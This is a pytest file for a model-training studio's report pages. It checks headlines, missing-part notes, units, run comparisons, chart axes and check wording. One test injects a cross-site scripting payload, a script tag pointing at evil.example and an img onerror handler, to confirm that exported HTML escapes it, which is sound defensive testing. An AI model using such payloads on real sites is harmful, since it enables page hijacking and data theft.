"""What the report's page and file say of a report: the first sentence, what is missing, what is compared, and that a
file that is given away holds nothing from outside and runs nothing."""

import math
import re
from typing import Any

import pytest

from core.contract.errors import RunError
from core.report.choices import Check
from core.report.schema import Answers, AnswersPart, Figure, Part, Report
from studio.figures.pictures import Axis, change
from studio.pages.report.compared.runs import compared
from studio.pages.report.compared.whole import together
from studio.pages.report.file import as_file
from studio.pages.report.sections.whole import whole
from studio.pages.report.view import check_words, headline, lacks
from tests.report_example import example


def with_held_out(**changed: Any) -> Report:
    report = example()
    assert report.held_out
    return report.model_copy(update={"held_out": report.held_out.model_copy(update=changed)})


def labels() -> Report:
    """Of a classifier, whose head is drawn anew: nothing is known of before."""
    report = with_held_out(before=None, difference=None, accuracy_after=Figure(value=0.9))
    return report.model_copy(update={"problem": "single_label_classification"})


def words_of(html: str) -> str:
    """The text of a page, without its tags."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", html))


@pytest.mark.parametrize(
    ("report", "begins", "after", "tone"),
    [
        (example(), "It learned: on 96 rows", "1.32", "good"),
        (with_held_out(change="same"), "No sure change", "1.32", "quiet"),
        (with_held_out(change="worse"), "It got worse", "1.32", "bad"),
        (with_held_out(before=None, difference=None, change="same"), "On 96 rows", "1.32", "quiet"),
        (with_held_out(accuracy_before=Figure(value=0.52), accuracy_after=Figure(value=0.81)),
         "Of 96 pairs that it never trained on, the chosen answer is the likelier one in 8", "81%", "good"),
        (with_held_out(change="worse", accuracy_before=Figure(value=0.5), accuracy_after=Figure(value=0.5)),
         "Of 96 pairs", "50%", "quiet"),
        (labels(), "On 96 rows that it never trained on, 90% are right.", "90%", "quiet"),
        (with_held_out(accuracy_before=Figure(value=0.5), accuracy_after=Figure(value=0.6, low=0.4, high=0.8)),
         "Of 96 pairs", "60%", "quiet"),
        (with_held_out(after=Figure(value=1.93)), "It learned", "1.930", "good"),
        (example().model_copy(update={"held_out": None}), "Whether it learned was not measured", "–", "quiet"),
    ],
)  # fmt: skip
def test_the_first_sentence_says_whether_it_learned(report: Report, begins: str, after: str, tone: str) -> None:
    said = headline(report)
    assert said.text.startswith(begins)
    assert (said.after, said.tone) == (after, tone)


def test_all_parts_are_told_and_every_link_leads_somewhere() -> None:
    html = whole(example())
    words = words_of(html)
    for told in ("Got worse: 257–2048 tokens.", "Perplexity", "The reference does not stand in it.", "5 of 16",
                 "unterminated character set", "Add rows in German", "KL divergence", "22 of its 60 tokens",
                 "4 of 20 prompts", "The time limit was reached.", "12 of 96 held-out rows are German"):  # fmt: skip
        assert told in words, told
    anchors = set(re.findall(r' id="([^"]+)"', html))
    assert {"held_out", "answers", "moved", "forgetting", "memorising", "answer-127"} <= anchors
    assert [to for to in re.findall(r' href="#([^"]+)"', html) if to not in anchors] == []


def test_units_and_intervals_are_those_of_the_loss() -> None:
    words = words_of(whole(example()))
    assert re.search(r"Perplexity 6\.96 → 3\.74 \(3\.49 to 4\.01 after\)", words)
    assert "loss: +0.080 nats per token" in words
    for unit, told in (("nats a row", "loss: +0.080 nats per row"), ("squared error", "loss: +0.080 (")):
        words = words_of(whole(with_held_out(unit=unit)))
        assert told in words
        assert "Perplexity" not in words.partition("Answers side by side")[0].partition("Held-out rows")[2]


def test_what_was_not_measured_says_why_in_its_place() -> None:
    reasons = {"held_out": "task", "moved": "failed", "memorising": "memory", "forgetting": "budget"}
    parts = tuple(Part(name=name, why=why) for name, why in reasons.items())  # type: ignore[arg-type]
    words = words_of(whole(Report(run_id="r", parts=parts)))
    assert not lacks(Report(run_id="r", parts=parts[:1]))
    assert lacks(Report(run_id="r", parts=parts))
    for told in ("does not apply to this kind of model", "It failed.", "Memory ran out.", "The time limit was reached"):
        assert told in words, told


def test_scores_and_what_a_run_went_on_from_are_told() -> None:
    row = Answers(row=1, prompt="Rain.", reference="weather", after="weather", scores="weather 91.0%, sport 9.0%")
    report = labels().model_copy(update={"answers": AnswersPart(rows=(row,)), "resume_from": "2026-11-01_a"})
    words = words_of(whole(report))
    for told in ("weather 91.0%, sport 9.0%", "It went on from 2026-11-01_a", "90% of rows are right"):
        assert told in words, told


def test_a_file_to_give_away_loads_nothing_and_runs_nothing() -> None:
    evil = "<script src=//evil.example/a.js></script><img src=x onerror=alert(1)>"
    asked = Answers(row=1, prompt=evil, reference=evil, before=evil, after=evil)
    report = example().model_copy(update={"title": evil, "model": evil, "answers": AnswersPart(rows=(asked,))})
    html = as_file(evil, "", whole(report))
    assert "<script" not in html
    assert "<img" not in html
    assert html.count("&lt;script") >= 5
    assert re.findall(r'(?:src|href)="(?!#)[^"]*"|url\(|@import', html) == []
    assert "default-src 'none'" in html.partition("</head>")[0].replace("&#x27;", "'")
    assert html.index("--accent") < html.index(".report-tiles") < html.index("</style>"), "its styles are inside"


def test_numbers_from_anywhere_break_no_page() -> None:
    for odd in (math.nan, math.inf, -math.inf, 1e300, -0.0):
        figure = Figure(value=odd, low=odd, high=odd, of=1)
        report = with_held_out(before=figure, after=figure, difference=figure, accuracy_after=figure)
        assert report.moved
        matrices = tuple(one.model_copy(update={"norm": odd, "singular": (odd,)}) for one in report.moved.matrices)
        report = report.model_copy(update={"moved": report.moved.model_copy(update={"matrices": matrices})})
        assert "<h2" in whole(report)
        assert "<h2" in together(compared([("a", report), ("b", example())]))


def test_an_axis_holds_its_values_with_ticks_at_round_ones() -> None:
    axis = Axis.over([1.93, None, 1.31, math.nan])
    assert axis.ticks == pytest.approx([1.4, 1.6, 1.8])
    assert 2.0 < axis.at(1.31) < axis.at(1.4) < axis.at(1.93) < 98.0
    assert axis.at(9.0) == axis.at(axis.high) == pytest.approx(98.0), "what lies outside stands at the end"
    assert Axis.over([0.002, 3.8]).low == 0.0, "a loss is not below 0"
    for values in ([0.25], [0.0], [], [-3.0, -2.99]):
        one = Axis.over(values)
        assert one.ticks
        assert all(one.low < value < one.high or value == one.low == 0 for value in values)
    assert "0.125" not in Axis.over([0, 0.1]).labels()
    picture = change(axis, Figure(value=1.93), Figure(value=1.31, low=1.25, high=1.37))
    assert picture.count("<circle") == 2
    assert picture.count('class="range after"') == 1


def test_reports_are_compared_where_they_can_be() -> None:
    runs = [(f"Run {number}", example(f"2026-11-2{number}_2243_a_k3f9", 1 - number / 4)) for number in range(3)]
    words = words_of(together(compared(runs)))
    assert "A Run 0" in words
    assert "C · Run 2" in words
    assert "cannot be ranked" not in words
    assert words.count("Original") == 4, "the same original is shown once a prompt"
    other = runs[1][1].model_copy(update={"held_out_sha256": "00"})
    assert "cannot be ranked" in words_of(together(compared([runs[0], ("other", other)])))
    some = runs[1][1].model_copy(update={"held_out": with_held_out(rows=40, tokens=3_000).held_out})
    html = together(compared([runs[0], ("cut off by its budget", some)]))
    assert "cannot be ranked" in words_of(html)
    held = other.held_out
    assert held
    moved = tuple(one.model_copy(update={"before": Figure(value=9.0)}) for one in held.groups)
    elsewhere = other.model_copy(update={"held_out": held.model_copy(update={"groups": moved})})
    same, apart = (together(compared([runs[0], ("b", one)])).partition("By source")[2] for one in (other, elsewhere))
    marks = [html.partition("<h2>Checks")[0].count('class="before"') for html in (same, apart)]
    assert marks == [len(held.groups), 0], "one mark before training only where all began there"
    for count in (1, 6):
        with pytest.raises(RunError, match="two to 5 runs"):
            compared(runs[:1] * count)


@pytest.mark.parametrize(
    ("check", "words"),
    [
        (Check(name="a", kind="contains"), "contains the reference"),
        (Check(name="a", kind="number", expected="4", tolerance=0.5), "its last number is 4 (± 0.5)"),
        (Check(name="a", kind="length", least=2, most=9), "has 2 to 9 words"),
        (Check(name="a", kind="length", least=2, unit="characters"), "has at least 2 characters"),
        (Check(name="a", kind="exact", expected="x" * 99), f"is exactly “{'x' * 57}…”"),
    ],
)
def test_a_check_is_said_in_a_line(check: Check, words: str) -> None:
    assert check_words(check) == words
